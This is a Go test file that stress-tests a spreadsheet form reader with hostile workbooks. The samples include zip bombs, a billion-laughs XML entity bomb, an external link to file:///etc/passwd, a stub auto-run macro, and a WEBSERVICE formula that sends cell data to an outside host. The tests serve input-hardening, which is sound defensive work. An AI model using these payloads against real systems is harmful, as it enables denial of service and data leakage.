package form

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"math/rand/v2"
	"runtime"
	"strings"
	"testing"
	"time"

	"ortsspiegel/pkg/catalog"
	"ortsspiegel/pkg/checklist"
	"ortsspiegel/pkg/fault"
	"ortsspiegel/pkg/internal/plaintext"
	xlsx "ortsspiegel/pkg/internal/sheet"
	"ortsspiegel/pkg/workbook/sample"
)

// repacked changes parts of a workbook; a part that is not there yet is added.
func repacked(t testing.TB, data []byte, change map[string]func(old string) io.Reader) []byte {
	t.Helper()
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	must(err)
	var out bytes.Buffer
	w := zip.NewWriter(&out)
	add := func(name string, r io.Reader) {
		part, err := w.Create(name)
		must(err)
		_, err = io.Copy(part, r)
		must(err)
	}
	seen := map[string]bool{}
	for _, f := range z.File {
		r, err := f.Open()
		must(err)
		if c := change[f.Name]; c != nil {
			old, err := io.ReadAll(r)
			must(err)
			seen[f.Name] = true
			add(f.Name, c(string(old)))
		} else {
			add(f.Name, r)
		}
		must(r.Close())
	}
	for name, c := range change {
		if !seen[name] {
			add(name, c(""))
		}
	}
	must(w.Close())
	return out.Bytes()
}

// replaced changes a text in a part, which must be there.
func replaced(t testing.TB, from, to string) func(string) io.Reader {
	return func(old string) io.Reader {
		if !strings.Contains(old, from) {
			t.Fatalf("the part has no %q", from)
		}
		return strings.NewReader(strings.Replace(old, from, to, 1))
	}
}

func instead(text string) func(string) io.Reader {
	return func(string) io.Reader { return strings.NewReader(text) }
}

type spaces struct{}

func (spaces) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = ' '
	}
	return len(p), nil
}

// TestFormTorture reads what nobody should send: refused or neutralised within 2 seconds and 150 MB.
func TestFormTorture(t *testing.T) {
	d := formular(t)
	good := writtenForm(t, sample.FormOf(d, nil), "de")
	const sheet, book, styles = "xl/worksheets/sheet2.xml", "xl/workbook.xml", "xl/styles.xml"
	parts := func(change map[string]func(string) io.Reader) []byte { return repacked(t, good, change) }
	part := func(name string, change func(string) io.Reader) []byte {
		return parts(map[string]func(string) io.Reader{name: change})
	}
	repeat := func(name, before, piece string, n int) []byte {
		var b strings.Builder
		for i := range n {
			b.WriteString(strings.ReplaceAll(piece, "%d", fmt.Sprint(i)))
		}
		return part(name, replaced(t, before, b.String()+before))
	}
	entries := map[string]func(string) io.Reader{}
	some := map[string]func(string) io.Reader{}
	for i := range 60_000 {
		if i < 2_000 {
			some[fmt.Sprintf("xl/media/image%d.png", i)] = instead("")
		}
		entries[fmt.Sprintf("xl/media/image%d.png", i)] = instead("")
	}
	noise := make([]byte, 50<<20)
	fill := rand.NewChaCha8([32]byte{})
	if _, err := fill.Read(noise); err != nil {
		t.Fatal(err)
	}
	hostileInputs := func() []byte {
		p := onPaper(t, good)
		for i, q := range d.Questions() {
			text := strings.ToValidUTF8(strings.ReplaceAll(sample.Hostile[i%len(sample.Hostile)], "\x00", ""), "")
			p.set("value "+string(q.ID), text)
			p.set("comment "+string(q.ID), text)
			if q.NotApplicable {
				p.set("reason "+string(q.ID), text)
			}
		}
		return p.bytes()
	}
	formulas := func() []byte {
		p := onPaper(t, good)
		for _, q := range d.Questions() {
			p.set("value "+string(q.ID), asFormula(`WEBSERVICE("http://example.org/"&A1)`))
		}
		return p.bytes()
	}
	cellOf := func(xml string) []byte {
		// The first answer's cell, whatever its style.
		return part(sheet, func(old string) io.Reader {
			i := strings.Index(old, `<c r="E5"`)
			if i < 0 {
				t.Fatal("the sheet has no E5")
			}
			end := i + strings.IndexByte(old[i:], '>')
			tail := old[end+1:]
			if old[end-1] != '/' {
				tail = tail[strings.Index(tail, "</c>")+4:]
			}
			return strings.NewReader(old[:i] + xml + tail)
		})
	}
	bomb := `<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>`
	key := keyPrefix(17, sample.AsOf) + "wahl"
	const fine = ""
	for _, c := range []struct {
		name string
		data []byte
		code string // of the refusal; fine: read
		wahl string // what the first question says then
	}{
		{"as it was", good, fine, ""},
		{"0 bytes", nil, "workbook_empty", ""},
		{"1 byte", []byte("P"), "workbook_kind", ""},
		{"truncated", good[:len(good)/2], "workbook_damaged", ""},
		{"tail missing", good[:len(good)-7], "workbook_damaged", ""},
		{"50 MB", append([]byte("PK\x03\x04"), noise...), "workbook_archive", ""},
		{"5 MB of noise", append([]byte("PK\x03\x04"), noise[:5<<20-4]...), "workbook_damaged", ""},
		{"zip bomb in a sheet", part(sheet, func(old string) io.Reader {
			return io.MultiReader(strings.NewReader("<worksheet>"), io.LimitReader(spaces{}, 400<<20),
				strings.NewReader("</worksheet>"))
		}), "workbook_entry", ""},
		{"zip bomb in a picture", part("xl/media/image1.png", func(string) io.Reader {
			return io.LimitReader(spaces{}, 7<<20)
		}), "workbook_ratio", ""},
		{"XML bomb in a sheet", part(sheet, replaced(t, "<worksheet", bomb+"<worksheet")), "workbook_doctype", ""},
		{"XML bomb in the names", part(book, replaced(t, "<workbook", bomb+"<workbook")), "workbook_doctype", ""},
		{"XML bomb in the styles", part(styles, replaced(t, "<styleSheet", bomb+"<styleSheet")), "workbook_doctype",
			""},
		{"an entity nobody knows", cellOf(`<c r="E5" t="inlineStr"><is><t>&passwd;</t></is></c>`), "workbook_row", ""},
		{"60 000 entries", parts(entries), "workbook_archive", ""},
		{"2 000 entries", parts(some), "workbook_entries", ""},
		{"external links", parts(map[string]func(string) io.Reader{
			"xl/externalLinks/externalLink1.xml": instead(
				`<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>`),
			"xl/externalLinks/_rels/externalLink1.xml.rels": instead(
				`<Relationships><Relationship Id="rId1" Target="file:///etc/passwd" TargetMode="External"/></Relationships>`),
		}), fine, ""},
		{"macros", parts(map[string]func(string) io.Reader{"xl/vbaProject.bin": instead(
			"\xD0\xCF\x11\xE0 Sub Auto_Open"),
			"[Content_Types].xml": replaced(t, "spreadsheetml.sheet.main", "ms-excel.sheet.macroEnabled.main")}), fine,
			""},
		{"absurd dimension", part(sheet, func(old string) io.Reader {
			i := strings.Index(old, `<dimension ref="`) + len(`<dimension ref="`)
			return strings.NewReader(old[:i] + "A1:XFD1048576" + old[i+strings.IndexByte(old[i:], '"'):])
		}), fine, ""},
		{"the last row there is", part(sheet,
			replaced(t, "</sheetData>", `<row r="1048576"><c r="A1048576"><v>1</v></c></row></sheetData>`)),
			"workbook_rows", ""},
		{"the last column there is", part(sheet,
			replaced(t, "</sheetData>", `<row r="900"><c r="XFD900"><v>1</v></c></row></sheetData>`)),
			"workbook_columns", ""},
		{"rows without number and cells without place",
			part(sheet, replaced(t, "</sheetData>", strings.Repeat(`<row><c><v>1</v></c></row>`, 10)+`</sheetData>`)),
			fine, ""},
		{"row 0 and rows backwards", part(sheet,
			replaced(t, "</sheetData>",
				`<row r="0"><c r="A0"><v>1</v></c></row><row r="3"><c r="A1048576"><v>1</v></c></row></sheetData>`)),
			"workbook_row", ""},
		{"a row numbered -1", part(sheet,
			replaced(t, "</sheetData>", `<row r="-1"><c><v>1</v></c></row></sheetData>`)), "workbook_row", ""},
		{"a row below the last one", part(sheet, replaced(t, "</sheetData>", `<row r="9999999"/></sheetData>`)),
			"workbook_row", ""},
		{"a cell of another row", part(sheet,
			replaced(t, "</sheetData>", `<row><c r="A1"><v>1</v></c></row></sheetData>`)), "workbook_row", ""},
		{"100 000 cells", repeat(sheet, "</sheetData>",
			`<row><c><v>%d</v></c><c><v>%d</v></c><c><v>%d</v></c><c><v>%d</v></c><c><v>%d</v></c><c><v>%d</v></c></row>`, 17_000), "workbook_cells", ""},
		{"300 000 cells on four sheets", parts(map[string]func(string) io.Reader{
			sheet: replaced(t, "</sheetData>",
				strings.Repeat(`<row>`+strings.Repeat(`<c><v>8</v></c>`, 250)+`</row>`, 300)+"</sheetData>"),
			"xl/worksheets/sheet3.xml": replaced(t, "</sheetData>",
				strings.Repeat(`<row>`+strings.Repeat(`<c><v>8</v></c>`, 250)+`</row>`, 300)+"</sheetData>"),
			"xl/worksheets/sheet4.xml": replaced(t, "</sheetData>",
				strings.Repeat(`<row>`+strings.Repeat(`<c><v>8</v></c>`, 250)+`</row>`, 300)+"</sheetData>"),
		}), "workbook_cells", ""},
		{"one question 60 000 times", repeat(sheet, "</sheetData>",
			`<row><c t="str"><v>`+key+`</v></c><c t="str"><v>`+key+`</v></c><c t="str"><v>`+key+
				`</v></c><c t="str"><v>`+key+`</v></c></row>`, 15_000), fine, ""},
		{"80 000 merged cells", repeat(sheet, "<pageMargins", `<mergeCells><mergeCell ref="A%d:B%d"/></mergeCells>`,
			40_000), fine, ""},
		{"80 000 conditions", repeat(sheet, "<pageMargins",
			`<conditionalFormatting sqref="A1:XFD1048576"><cfRule type="expression"><formula>A%d</formula></cfRule></conditionalFormatting>`, 26_000), fine, ""},
		{"100 000 names", repeat(book, "</definedNames>",
			`<definedName name="n%d">'1 Erste Fragen O Hara'!$A$1</definedName>`, 100_000), "workbook_entry", ""},
		{"the same name 8 000 times, last and first",
			parts(map[string]func(string) io.Reader{book: func(old string) io.Reader {
				other := strings.Repeat(`<definedName name="form.value.wahl">'3 Dritte'!$A$1</definedName>`, 8_000)
				return strings.NewReader(strings.NewReplacer("<definedNames>", "<definedNames>"+other,
					"</definedNames>",
					other+"</definedNames>").Replace(old))
			}}), fine, "nothing"},
		{"100 000 styles", repeat(styles, "</cellXfs>", `<xf numFmtId="%d"/>`, 90_000), fine, ""},
		{"formulas in every input", formulas(), fine, "problem formula at E5"},
		{"a formula without a value", cellOf(`<c r="E5"><f/></c>`), fine, "problem formula at E5"},
		{"hostile strings in every input", hostileInputs(), fine, "problem both at F5"},
		{"a shared string out of range", cellOf(`<c r="E5" t="s"><v>99999999</v></c>`), "workbook_row", ""},
		{"a shared string below zero", cellOf(`<c r="E5" t="s"><v>-1</v></c>`), "workbook_row", ""},
		{"a shared string that is no number", cellOf(`<c r="E5" t="s"><v>ja</v></c>`), "workbook_row", ""},
		{"an error", cellOf(`<c r="E5" t="e"><v>#NAME?</v></c>`), fine, "problem error at E5"},
		{"a kind nobody knows", cellOf(`<c r="E5" t="zauberei"><v>ja</v></c>`), fine, "ja"},
		{"a number with an exponent", cellOf(`<c r="E5" t="n"><v>1e999999999</v></c>`), fine,
			"problem option_unknown at E5"},
		{"not a number", cellOf(`<c r="E5" t="n"><v>NaN</v></c>`), fine, "problem option_unknown at E5"},
		{
			"text in pieces",
			cellOf(
				`<c r="E5" t="inlineStr"><is><r><rPr><b/></rPr><t>J</t></r><r><t>a</t></r><rPh sb="0" eb="1"><t>nein</t></rPh></is></c>`), fine, "ja",
		},
		{"a long text", cellOf(`<c r="E5" t="inlineStr"><is><t>` + strings.Repeat("lang ", 200_000) + `</t></is></c>`),
			fine, "problem option_unknown at E5"},
		{"two cells in one place", cellOf(`<c r="E5" t="str"><v>nein</v></c><c r="E5" t="str"><v>ja</v></c>`),
			"workbook_row", ""},
		{"a CSV file", []byte("ags;name\n"), "workbook_kind", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			var before, after runtime.MemStats
			runtime.GC()
			runtime.ReadMemStats(&before)
			start := time.Now()
			r, err := ReadForm(t.Context(), bytes.NewReader(c.data), int64(len(c.data)),
				func(string) (*checklist.Definition, error) { return d, nil })
			took := time.Since(start)
			runtime.ReadMemStats(&after)
			allocated := (after.TotalAlloc - before.TotalAlloc) >> 20
			t.Logf("%d kB: %v, %d MB allocated", len(c.data)>>10, took.Round(time.Millisecond), allocated)
			if took > 2*time.Second || allocated > 150 {
				t.Errorf("%v and %d MB", took, allocated)
			}
			if c.code != fine {
				if f := fault.As(err); f == nil || f.Code != c.code {
					t.Errorf("want %s, got %v", c.code, err)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if got := said(r, "wahl"); got != c.wahl && c.wahl != "nothing" {
				t.Errorf("got %q, want %q", got, c.wahl)
			}
			if n := len(r.Filled) + len(r.Problems); n != len(d.Questions()) {
				t.Errorf("%d of %d questions", n, len(d.Questions()))
			}
		})
	}
}

// TestFormOfTheLargestChecklist sees that what is written can be read back.
func TestFormOfTheLargestChecklist(t *testing.T) {
	var b strings.Builder
	b.WriteString(
		"id: gross\nversion: 1.0.0\nkind: assessment\nlanguages: [de]\ntitle: {de: Gross}\nlevels:\n  - {id: eins, " +
			"from: 0, label: {de: Eins}}\nsections:\n")
	for s := range checklist.MaxSections {
		fmt.Fprintf(&b, "  - id: abschnitt-%d\n    title: {de: Abschnitt}\n    weight: 1\n    questions:\n", s)
		for q := range checklist.MaxQuestions / checklist.MaxSections {
			fmt.Fprintf(&b,
				"      - {id: eine-recht-lange-kennung-%d-%d, text: {de: Eine Frage von gewöhnlicher Länge, mit "+
					"Satzzeichen?}, type: choice, not_applicable: true, options: [{id: a, points: 0, label: {de: "+
					"nein}}, {id: b, points: 100, label: {de: ja}}]}\n", s, q)
		}
	}
	d, problems := catalog.Parse("gross.yaml", []byte(strings.ReplaceAll(b.String(), "Länge, mit", "Länge mit")))
	if d == nil || catalog.HasErrors(problems) {
		t.Fatal(problems[:min(len(problems), 3)])
	}
	f := sample.FormOf(d, sample.RandomAnswers(d, sample.Seeded(1), 0.8))
	data := writtenForm(t, f, "de")
	t.Logf("%d questions: %d kB", len(d.Questions()), len(data)>>10)
	sameAsStored(t, f, readForm(t, d, data))
}

// FuzzFormCell gives one cell any content: it is understood or a problem, and never breaks the rest.
func FuzzFormCell(f *testing.F) {
	for _, text := range append(sample.Hostile, "ja", "7,5", "31.3.2026", "1e9", "_x005F_x0041_", "löschen") {
		f.Add(text, uint8(0))
		f.Add(text, uint8(1))
	}
	d := formular(f)
	f.Fuzz(func(t *testing.T, text string, kind uint8) {
		c := xlsx.Cell{Text: plaintext.Text(text), Kind: xlsx.Kind(kind % 5), Format: xlsx.Format(kind / 5 % 4)}
		r := &formReader{d: d, book: &formBook{book: &xlsx.Book{}}, id: identity{lang: "de"}}
		for _, q := range d.Questions() {
			r.textOf(inputCell{Cell: c})
			switch q.Type {
			case checklist.TypeNumber:
				if a, err := numberOf(q, c); err == nil && a.Kind != checklist.AnswerNumber {
					t.Errorf("%q became %+v", text, a)
				}
			case checklist.TypeDate:
				a, err := r.dateOf(q, c)
				if _, parsed := time.Parse(time.DateOnly, a.Text); err == nil && parsed != nil {
					t.Errorf("%q became %+v", text, a)
				}
			case checklist.TypeChoice:
				r.option(q, c.Text)
			}
		}
	})
}
